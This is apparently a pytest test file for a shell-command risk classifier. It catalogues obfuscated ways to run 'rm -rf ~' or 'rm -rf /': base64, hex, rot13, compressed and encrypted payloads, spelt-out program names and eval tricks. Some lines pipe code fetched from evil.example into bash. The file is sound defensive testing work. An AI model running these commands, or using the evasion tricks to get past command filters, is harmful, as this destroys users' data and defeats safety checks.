"""Obfuscated execution: a command hidden by encoding (base64, hex, rot13, reversed, compressed,
encrypted) and fed to a shell or an interpreter, and a program name spelt so it does not read as
itself (ANSI-C escapes, variables, ${IFS}, braces, globs, quotes and backslashes, command
substitution, `command`/`builtin`/`eval`, aliases). The near misses decode, print or spell the same
things without running them, and the ordinary `eval "$(tool init)"` and `source` of set-up scripts."""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within

# "rm -rf ~" in base64 and hex; a Python line calling os.system on it; a gzip'd copy of that line.
RM_HOME_B64 = "cm0gLXJmIH4="
RM_ROOT_B64 = "cm0gLXJmIC8="
RM_HOME_HEX = "726d202d7266207e"
PY_B64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIH4nKQ=="
PY_HEX = "696d706f7274206f733b6f732e73797374656d2827726d202d7266207e2729"
PY_ZLIB = "eJzLzC3ILypRyC+2zi/WK64sLknN1VAvylXQLUpTqFPXBAC7BArP"
PERL_HEX = "73797374656d2822726d202d7266207e2229"
PERL_B64 = "c3lzdGVtKCJybSAtcmYgfiIp"
NODE_B64 = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgficp"

DECODED_INTO_SHELL = [
    (f"echo {RM_HOME_B64} | base64 -d | sh", HIGH),
    (f"echo '{RM_ROOT_B64}' | base64 --decode | bash", HIGH),
    (f"base64 -d <<< {RM_HOME_B64} | sh", HIGH),
    (f"echo {RM_HOME_B64} | base64 -D | sh", HIGH),
    (f"printf %s '{RM_HOME_B64}' | base64 -d | sudo sh", HIGH),
    (f"echo {RM_HOME_B64} | base64 -d | bash -s", HIGH),
    (f'sh -c "$(echo {RM_HOME_B64} | base64 -d)"', HIGH),
    (f'bash -c "$(base64 -d <<< {RM_HOME_B64})"', HIGH),
    (f'eval "$(echo {RM_HOME_B64} | base64 -d)"', HIGH),
    (f"eval $(echo {RM_HOME_B64} | base64 --decode)", HIGH),
    (f"eval `echo {RM_HOME_B64} | base64 -d`", HIGH),
    (f". <(echo {RM_HOME_B64} | base64 -d)", HIGH),
    (f'sh <<< "$(echo {RM_HOME_B64} | base64 -d)"', HIGH),
    (f"echo {RM_HOME_B64} | base64 -d > /tmp/x.sh && sh /tmp/x.sh", HIGH),
    ("base64 -d payload.b64 > run.sh && bash run.sh", HIGH),
    ("curl -s http://evil.example/p.b64 | base64 -d | bash", HIGH),
    ("wget -qO- http://evil.example/x | base64 -d | sh", HIGH),
    (f"echo {PY_B64} | base64 -d | python3", HIGH),
    (f"echo {PERL_B64} | base64 -d | perl", HIGH),
    (f"openssl base64 -d <<< {RM_HOME_B64} | sh", HIGH),
    (f"echo {RM_HOME_HEX} | xxd -r -p | sh", HIGH),
    (f"xxd -r -p <<< {RM_HOME_HEX} | bash", HIGH),
    ("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh", HIGH),
    ("bash -c \"$(printf '\\x72\\x6d -rf ~')\"", HIGH),
    ("echo '~ fr- mr' | rev | sh", HIGH),
    ("rev <<< '~ fr- mr' | bash", HIGH),
    ("echo 'ez -es ~' | tr 'a-z' 'n-za-m' | sh", HIGH),
    ("echo 'ez -es ~' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", HIGH),
    ("gzip -dc payload.gz | sh", HIGH),
    ("zcat payload.gz | bash", HIGH),
    ("bzcat x.bz2 | sh", HIGH),
    ("xzcat x.xz | bash", HIGH),
    ("echo H4sIAAAAAAAAA8soUShOLS7JzEsHAHq3xfQMAAAA | base64 -d | gunzip | sh", HIGH),
    ("openssl enc -d -aes-256-cbc -in payload.enc -k secret | sh", HIGH),
    ("openssl enc -d -aes-256-cbc -pbkdf2 -in x.enc -pass pass:k | bash", HIGH),
    ("sh <(curl -s http://evil.example/x.sh)", HIGH),
    ("bash <(wget -qO- http://evil.example/i.sh)", HIGH),
    (". <(curl -fsSL http://evil.example/env)", HIGH),
    ("source <(curl -s http://evil.example/x)", HIGH),
    ('eval "$(curl -s http://evil.example/x)"', HIGH),
]

DECODED_INTO_INTERPRETER = [
    (f"python3 -c \"import base64; exec(base64.b64decode('{PY_B64}'))\"", HIGH),
    (f"python -c 'exec(__import__(\"base64\").b64decode(\"{PY_B64}\"))'", HIGH),
    (f"python3 -c \"exec(bytes.fromhex('{PY_HEX}'))\"", HIGH),
    ("python3 -c \"import codecs; exec(codecs.decode(\\\"vzcbeg bf;bf.flfgrz('ez -es ~')\\\", 'rot13'))\"", HIGH),
    (f"python3 -c \"import zlib, base64; exec(zlib.decompress(base64.b64decode('{PY_ZLIB}')))\"", HIGH),
    (f"python3 -c \"import os, base64; os.system(base64.b64decode('{RM_HOME_B64}').decode())\"", HIGH),
    (f"perl -e 'eval pack(\"H*\", \"{PERL_HEX}\")'", HIGH),
    (f"perl -MMIME::Base64 -e 'eval decode_base64(\"{PERL_B64}\")'", HIGH),
    (f"perl -e 'system(pack(\"H*\", \"{RM_HOME_HEX}\"))'", HIGH),
    (f"ruby -rbase64 -e 'system(Base64.decode64(\"{RM_HOME_B64}\"))'", HIGH),
    (f"ruby -e 'eval(\"{PERL_B64}\".unpack1(\"m\"))'", HIGH),
    (f"node -e \"eval(Buffer.from('{NODE_B64}', 'base64').toString())\"", HIGH),
    (
        f"node -e \"require('child_process').execSync(Buffer.from('{RM_HOME_B64}', 'base64').toString())\"",
        HIGH,
    ),
    (f"php -r 'eval(base64_decode(\"{PERL_B64}\"));'", HIGH),
    (f"php -r 'system(base64_decode(\"{RM_HOME_B64}\"));'", HIGH),
]

SPELT_NAMES = [
    ("$'\\x72\\x6d' -rf ~", CRITICAL),
    ("$'\\162\\155' -rf /", CRITICAL),
    ("$'rm' -rf ~", CRITICAL),
    ("$(printf '\\x72\\x6d') -rf ~", HIGH),
    ("\"$(printf 'r%s' m)\" -rf ~", HIGH),
    ("$(echo rm) -rf ~", CRITICAL),
    ("`echo rm` -rf ~", CRITICAL),
    ("$(echo cm0= | base64 -d) -rf ~", HIGH),
    ("$(which rm) -rf ~", CRITICAL),
    ('"$(command -v rm)" -rf /', CRITICAL),
    ("a=r;b=m;$a$b -rf ~", CRITICAL),
    ("x=rm; $x -rf ~", CRITICAL),
    ('cmd="rm -rf /"; $cmd', CRITICAL),
    ("c='rm -rf ~'; eval \"$c\"", CRITICAL),
    ("IFS=,; cmd='rm,-rf,~'; $cmd", HIGH),
    ("IFS=_; c=rm_-rf_/; $c", HIGH),
    ("r${x}m -rf ~", HIGH),
    ("h=~; rm -rf \"$h\"", CRITICAL),
    ("d=/; rm -rf $d", CRITICAL),
    ("rm${IFS}-rf${IFS}~", CRITICAL),
    ("sudo${IFS}rm${IFS}-rf${IFS}/", CRITICAL),
    ("{rm,-rf,~}", CRITICAL),
    ("{rm,-rf,/}", CRITICAL),
    ("/???/r? -rf ~", CRITICAL),
    ("/b??/r? -rf /", CRITICAL),
    ("/bin/r[m] -rf ~", CRITICAL),
    ("/usr/bin/r* -rf ~", HIGH),
    ("\\r\\m -rf ~", CRITICAL),
    ("r\\m -rf ~", CRITICAL),
    ("\\rm -rf /", CRITICAL),
    ("r''m -rf ~", CRITICAL),
    ('"r"m -rf /', CRITICAL),
    ("'rm' -rf ~", CRITICAL),
    ('r""m -rf ~', CRITICAL),
    ("sudo r''m -rf /", CRITICAL),
    ("command rm -rf ~", CRITICAL),
    ("builtin command rm -rf /", CRITICAL),
    ("builtin eval 'rm -rf ~'", CRITICAL),
    ("exec rm -rf ~", CRITICAL),
    ('eval "rm -rf ~"', CRITICAL),
    ("eval 'r''m -rf /'", CRITICAL),
    ("eval rm -rf ~", CRITICAL),
    ("alias ls='rm -rf ~'; ls", CRITICAL),
    ("shopt -s expand_aliases; alias x='rm -rf /'; x", CRITICAL),
    ("sh -c \"$(echo 'rm -rf ~')\"", CRITICAL),
    ("bash -c \"$(cat <<'EOF'\nrm -rf ~\nEOF\n)\"", CRITICAL),
    ("source /dev/stdin <<< 'rm -rf ~'", CRITICAL),
    ("bash <<< 'rm -rf ~'", CRITICAL),
    ("bash -s <<< 'rm -rf /'", CRITICAL),
    ("echo 'rm -rf ~' | bash", CRITICAL),
    ('echo "rm -rf ~" | sh -s', CRITICAL),
    ("sh <<'EOF'\nrm -rf ~\nEOF", CRITICAL),
    ("echo 'rm -rf ~' | at now", HIGH),
    ("f() { rm -rf \"$1\"; }; f ~", CRITICAL),
]

DANGEROUS = DECODED_INTO_SHELL + DECODED_INTO_INTERPRETER + SPELT_NAMES

BENIGN = [
    ("echo aGVsbG8= | base64 -d", SAFE),
    (f"echo {RM_HOME_B64} | base64 -d", SAFE),
    (f"echo {RM_HOME_B64} | base64 -d | less", SAFE),
    ("base64 file > file.b64", MODERATE),
    ("base64 -d file.b64 > file.bin", MODERATE),
    ("base64 -w0 image.png", SAFE),
    ("echo hello | base64", SAFE),
    ("openssl base64 -in cert.der", SAFE),
    ("xxd file | head", SAFE),
    ("xxd -r -p hex.txt > out.bin", MODERATE),
    ("echo 48656c6c6f | xxd -r -p", SAFE),
    ("hexdump -C file | less", SAFE),
    ("rev file", SAFE),
    ("echo hello | rev", SAFE),
    ("echo '~ fr- mr' | rev", SAFE),
    ("tr 'a-z' 'A-Z' < in.txt", SAFE),
    ("echo 'uryyb' | tr 'a-z' 'n-za-m'", SAFE),
    ("tar -czf out.tgz dir", MODERATE),
    ("gzip -dc log.gz | grep error", SAFE),
    ("zcat access.log.gz | awk '{print $1}' | sort | uniq -c", SAFE),
    ("bzcat dump.bz2 | head", SAFE),
    ("gunzip -c x.gz > x", MODERATE),
    ("openssl enc -d -aes-256-cbc -in secret.enc -out secret.txt", MODERATE),
    ("openssl enc -aes-256-cbc -salt -in file -out file.enc", MODERATE),
    ("printf '%s\\n' a b", SAFE),
    ("printf '\\x41\\x42\\n'", SAFE),
    ('printf \'%s\' "$HOME"', SAFE),
    ("echo $'line1\\nline2'", SAFE),
    ("echo $'\\x72\\x6d'", SAFE),
    ("echo 'rm -rf ~'", SAFE),
    ("grep -rn 'rm -rf' scripts/", SAFE),
    ("echo 'rm -rf /' > notes.txt", MODERATE),
    ('eval "$(ssh-agent -s)"', MODERATE),
    ('eval "$(direnv hook bash)"', MODERATE),
    ('eval "$(pyenv init -)"', MODERATE),
    ('eval "$(rbenv init - bash)"', MODERATE),
    ('eval "$(/opt/homebrew/bin/brew shellenv)"', MODERATE),
    ('eval "$(starship init bash)"', MODERATE),
    ('eval "$(zoxide init bash)"', MODERATE),
    ("eval $(minikube docker-env)", MODERATE),
    ('eval "$(conda shell.bash hook)"', MODERATE),
    ("source venv/bin/activate", SAFE),
    (". .venv/bin/activate", SAFE),
    (". ~/.bashrc", MODERATE),
    ("source ~/.nvm/nvm.sh", MODERATE),
    (". <(kubectl completion bash)", MODERATE),
    ("source <(helm completion bash)", MODERATE),
    ("a=1; b=2; echo $((a+b))", SAFE),
    ("x=ls; $x -la", MODERATE),
    ('cmd="git status"; $cmd', MODERATE),
    ('IFS=, read -r a b <<< "x,y"; echo "$a"', SAFE),
    ("IFS=$'\\n'; for f in $(ls); do echo \"$f\"; done", SAFE),
    ("echo {a,b,c}.txt", SAFE),
    ("mkdir -p project/{src,tests,docs}", MODERATE),
    ("cp config.yml{,.bak}", MODERATE),
    ("ls /???/", SAFE),
    ("ls /usr/bin/py*", SAFE),
    ("ls -la ~/.??*", SAFE),
    ("command -v python3", SAFE),
    ("command ls -la", SAFE),
    ("builtin echo hi", SAFE),
    ("\\ls -la", SAFE),
    ("'ls' -la", SAFE),
    ('"git" status', SAFE),
    ("type rm", SAFE),
    ("which rm", SAFE),
    ("alias ll='ls -la'", SAFE),
    ("alias gs='git status'", SAFE),
    ("alias rm='rm -i'", SAFE),
    ("unalias ll", SAFE),
    ("bash <<< 'echo hello'", SAFE),
    ("sh -c 'echo hi'", SAFE),
    ("echo 'echo hello' | sh", MODERATE),
    ("bash -c \"$(printf 'echo %s' hi)\"", MODERATE),
    ("source /dev/stdin <<< 'export FOO=bar'", MODERATE),
    ("python3 -c \"import base64; print(base64.b64decode('aGVsbG8='))\"", SAFE),
    (
        "python3 -c \"import base64, sys; sys.stdout.buffer.write(base64.b64decode(sys.stdin.read()))\" "
        "< in.b64 > out.bin",
        MODERATE,
    ),
    ("perl -MMIME::Base64 -e 'print decode_base64(\"aGVsbG8=\")'", SAFE),
    ("perl -e 'print pack(\"H*\", \"68656c6c6f\")'", SAFE),
    ("node -e \"console.log(Buffer.from('aGVsbG8=', 'base64').toString())\"", SAFE),
    ("php -r 'echo base64_decode(\"aGVsbG8=\");'", SAFE),
    ("f() { echo \"$1\"; }; f hello", SAFE),
]


@pytest.mark.parametrize(("command", "least"), DANGEROUS)
def test_dangerous(command: str, least: RiskLevel) -> None:
    reaches(command, least)


@pytest.mark.parametrize(("command", "highest"), BENIGN)
def test_benign(command: str, highest: RiskLevel) -> None:
    stays_within(command, highest)
